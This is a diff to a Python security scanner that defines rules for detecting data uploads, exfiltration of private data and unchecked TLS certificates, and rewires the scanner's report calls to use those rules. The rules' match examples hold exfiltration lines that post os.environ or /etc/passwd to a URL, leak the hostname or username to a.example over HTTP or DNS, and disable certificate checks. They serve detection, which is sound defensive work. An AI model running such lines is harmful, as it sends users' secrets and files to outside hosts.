@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from urllib.parse import urlsplit
 
+from engine.analysis.python.declare import python_rule
 from engine.analysis.python.evaluate.evaluator import Walk
 from engine.analysis.python.evaluate.patterns import HOLE, pattern_of
 from engine.analysis.python.evaluate.sink_registry import CALLS, METHODS, PREFIXES, Call, handles
@@ -13,6 +14,57 @@ from engine.analysis.python.rules import network as rules
 from engine.analysis.python.sinks import paths
 from engine.analysis.python.words import words
 from engine.models import EffectKind, Level
+
+UPLOAD = python_rule(
+    "py-upload",
+    "Data is sent out",
+    "exfil_upload",
+    Level.MEDIUM,
+    attack="Carries data out of the machine.",
+    why="MEDIUM: forms are posted too; HIGH where what is sent is private.",
+    fix="Ask for the domain as a capability and say what is sent.",
+    match=(
+        "import requests\nrequests.post('https://a.example', data=d)",
+        "import socket\ns = socket.socket()\ns.sendall(x)",
+    ),
+    not_match=("import requests\nrequests.get('https://a.example')",),
+    cwe=200,
+    owasp="LLM02",
+)
+EXFILTRATION = python_rule(
+    "py-exfiltration",
+    "Private data leaves the machine",
+    "exfil_upload",
+    Level.CRITICAL,
+    attack="Sends secrets, the environment, files or facts about the machine to somebody.",
+    why="CRITICAL: private data and the network meet; HIGH for files and facts about the machine.",
+    fix="Remove it.",
+    match=(
+        "import os, requests\nrequests.post(u, data=dict(os.environ))",
+        "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
+        "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
+        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
+    ),
+    not_match=(
+        "import requests\nrequests.post(u, data={'a': 1})",
+        "import socket\nsocket.gethostbyname(socket.gethostname())",
+    ),
+    cwe=200,
+    owasp="LLM02",
+)
+INSECURE_TLS = python_rule(
+    "py-insecure-transport",
+    "The other side's certificate is not checked",
+    "vuln_lint",
+    Level.MEDIUM,
+    attack="Lets anyone between here and there answer.",
+    why="MEDIUM: needs somebody on the way.",
+    fix="Remove `verify=False`.",
+    match=("import requests\nrequests.get(u, verify=False)", "import ssl\nssl._create_unverified_context()"),
+    not_match=("import requests\nrequests.get(u, verify=True)",),
+    cwe=295,
+)
+
 
 _UPLOADING = frozenset(
     words("post put patch send sendall sendto sendmail send_message storbinary storlines upload publish")
@@ -58,7 +110,7 @@ def ask(walk: Walk, call: Call, verb: str) -> Value:
     outgoing(walk, call, verb)
     verify = call.keywords.get("verify")
     if verify is not None and verify.const is False:
-        walk.report(rules.INSECURE_TLS, call.node, "`verify=False`")
+        walk.report(INSECURE_TLS, call.node, "`verify=False`")
     value = Value(name=f"{call.name}()", taint=Taint.NETWORK)
     value.trail = (call.node,)
     return value
@@ -78,13 +130,11 @@ def outgoing(walk: Walk, call: Call, verb: str) -> None:
         authorised = private == private & (Taint.SECRET | Taint.ENVIRONMENT) and not body
         if authorised:
             level = Level.MEDIUM
-        walk.report(
-            rules.EXFILTRATION, call.node, f"Sends {taint_words(private)}", severity=level, value=tainted
-        )
+        walk.report(EXFILTRATION, call.node, f"Sends {taint_words(private)}", severity=level, value=tainted)
     elif body and taint & Taint.FILE:
-        walk.report(rules.EXFILTRATION, call.node, "Sends the content of a file", severity=Level.HIGH)
+        walk.report(EXFILTRATION, call.node, "Sends the content of a file", severity=Level.HIGH)
     elif body:
-        walk.report(rules.UPLOAD, call.node, "Sends data out")
+        walk.report(UPLOAD, call.node, "Sends data out")
 
 
 def address_of(call: Call) -> str | None:
@@ -178,7 +228,7 @@ def copy_stream(walk: Walk, call: Call) -> Value | None:
 @handles("ssl._create_unverified_context")
 def unverified(walk: Walk, call: Call) -> Value | None:
     """Certificates unchecked."""
-    walk.report(rules.INSECURE_TLS, call.node, "Certificates are not checked")
+    walk.report(INSECURE_TLS, call.node, "Certificates are not checked")
     return Value(name="ssl.SSLContext()")
 
 
